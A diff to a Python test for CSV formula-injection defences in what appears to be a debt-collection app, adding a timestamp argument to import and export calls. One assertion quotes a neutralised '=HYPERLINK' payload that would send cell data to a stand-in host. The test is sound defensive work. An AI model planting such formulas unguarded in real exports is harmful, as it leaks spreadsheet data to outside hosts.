@@ -14,7 +14,7 @@ from campaigns.models import Debtor
 from campaigns.portfolio_import import import_portfolio
 from campaigns.safe_export import FORMULA_STARTS, safe_cell, safe_xlsx_value
 from tests import hostile_files
-from tests.factories import TODAY, make_client
+from tests.factories import CREATED_AT, TODAY, make_client
 
 
 def _cells(text: str) -> list[str]:
@@ -38,10 +38,11 @@ def test_formula_looking_values_come_out_neutral_in_escalations_and_rejects(
         filename="formulas.csv",
         content=hostile_files.formula_csv(),
         today=TODAY,
+        now=CREATED_AT,
     )
     assert (summary.escalated, summary.rejected) == (2, 1)
 
-    export = escalations_csv(session, client_id=client.id, today=TODAY)
+    export = escalations_csv(session, client_id=client.id, today=TODAY, now=CREATED_AT)
     cells = _cells(export)
     assert not [c for c in cells if _runs_as_formula(c)]
     assert '\'=HYPERLINK("http://x.example/?"&A1)' in cells
@@ -54,7 +55,12 @@ def test_formula_looking_values_come_out_neutral_in_escalations_and_rejects(
 
     # The export re-imports as the creditor wrote it: our reader drops the guard quote.
     again = import_portfolio(
-        session, client_id=client.id, filename="handoff.csv", content=export.encode(), today=TODAY
+        session,
+        client_id=client.id,
+        filename="handoff.csv",
+        content=export.encode(),
+        today=TODAY,
+        now=CREATED_AT,
     )
     assert (again.imported, again.rejected) == (0, 0)
     assert sorted(session.scalars(select(Debtor.name))) == ["-Juan", "=1+2"]
